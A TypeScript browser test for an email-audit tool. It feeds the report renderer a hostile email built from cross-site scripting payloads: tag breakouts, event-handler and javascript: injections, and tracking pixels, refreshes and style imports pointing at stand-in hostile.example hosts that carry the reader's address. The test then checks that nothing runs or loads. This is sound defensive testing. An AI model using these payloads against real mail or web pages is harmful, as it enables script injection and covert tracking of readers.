import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";

import { auditMessage } from "@consentry/audit";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";

import { BROWSER_ARGUMENTS, findBrowser } from "../../../../../../tools/browser.ts";
import { chapterOf, htmlPageOf } from "./html-page.ts";

/** What a mail might try to get out of the report that shows it. All hosts are its own. */
const RUN = "parent.didRun=1;top.didRun=1;window.didRun=1";
const BODY = `<!doctype html><html><head><base href="https://base.hostile.example/">
<meta http-equiv="refresh" content="0;url=https://refresh.hostile.example/">
<link rel="stylesheet" href="https://css.hostile.example/a.css">
<link rel="dns-prefetch" href="//dns.hostile.example"><style>@import url(https://import.hostile.example/i.css);
body{background:url(https://bg.hostile.example/b.png)}</style><style></style></style><script>${RUN}</script>
</head><body onload="${RUN}">
"></iframe><script>${RUN}</script><iframe srcdoc='&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;'></iframe>
&quot;&gt;&lt;/iframe&gt;&lt;script&gt;${RUN}&lt;/script&gt; &amp;quot;&gt;&lt;img src=x onerror=${RUN}&gt;
<img src="https://img.hostile.example/a.png?u=ada%40reader.example" width="1" height="1" onerror="${RUN}">
<img src='https://quote.hostile.example/"><script>${RUN}</script>.png' width=1 height=1>
<a href='https://click.hostile.example/"><script>${RUN}</script>?u=ada@reader.example' target="_top">
</title></style></textarea><script>${RUN}</script></a>
<a href="javascript:${RUN}" target="_top">go</a>
<form action="https://form.hostile.example/"><input autofocus onfocus="${RUN}"></form>
<svg><image href="https://svg.hostile.example/i.png"/><script>${RUN}</script></svg>
<div style="background:url(https://inline.hostile.example/i.png);position:fixed;inset:0">x</div></body></html>`;

const HOSTILE = [
  `From: "</title><script>${RUN}</script>" <mallory@hostile.example>`,
  "To: ada@reader.example",
  `Subject: </title></style><script>${RUN}</script><img src=https://subject.hostile.example/x onerror=${RUN}>`,
  "Date: Wed, 14 Sep 2022 10:02:11 +0200",
  `Message-ID: <"><script>${RUN}</script>@hostile.example>`,
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  BODY,
].join("\r\n");

let browser: Browser;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "consentry-html-"));
  browser = await chromium.launch({
    executablePath: await findBrowser(),
    args: [...BROWSER_ARGUMENTS],
  });
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true });
});

test("a hostile mail neither runs nor asks for anything in the report that shows it", async () => {
  const bytes = new TextEncoder().encode(HOSTILE);
  const file = join(folder, "report.html");
  const name = `"><script>${RUN}</script>.eml`;
  const chapter = chapterOf(auditMessage(bytes, { file: name }), bytes, { language: "en" });
  writeFileSync(file, htmlPageOf([chapter, chapter], { language: "en" }));
  const page = await browser.newPage();
  const asked: string[] = [];
  const said: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => said.push(message.text()));
  page.on("dialog", (dialog) => said.push(dialog.message()));
  const address = pathToFileURL(file).href;
  await page.goto(address);
  await page.locator("summary").first().click();
  await page.waitForTimeout(500);

  expect(asked.filter((url) => url !== address && url !== "about:srcdoc")).toEqual([]);
  expect(await page.evaluate(() => "didRun" in globalThis)).toBe(false);
  expect(said.filter((text) => !/sandbox|Content Security Policy/i.test(text))).toEqual([]);
  expect(page.url()).toBe(address);
  const found = await page.evaluate(() => ({
    scripts: document.querySelectorAll("script").length,
    handlers: [...document.querySelectorAll("*")].filter((one) =>
      one.getAttributeNames().some((attribute) => attribute.startsWith("on")),
    ).length,
    frames: document.querySelectorAll("iframe[sandbox=''][srcdoc]").length,
    allFrames: document.querySelectorAll("iframe").length,
    links: [...document.querySelectorAll("[href], [src]")].map((one) => one.getAttribute("href")),
    title: document.title,
  }));
  expect(found).toMatchObject({ scripts: 0, handlers: 0, frames: 2, allFrames: 2 });
  expect(found.links).toEqual(["#message-1", "#message-2"]);
  expect(found.title).toBe("Mail audit: 2 messages");
  const frame = page.frames()[1];
  expect(await frame?.locator("body").textContent()).toContain("hidden picture");
  expect(await frame?.locator("script, iframe, form, a[href]").count()).toBe(0);
});
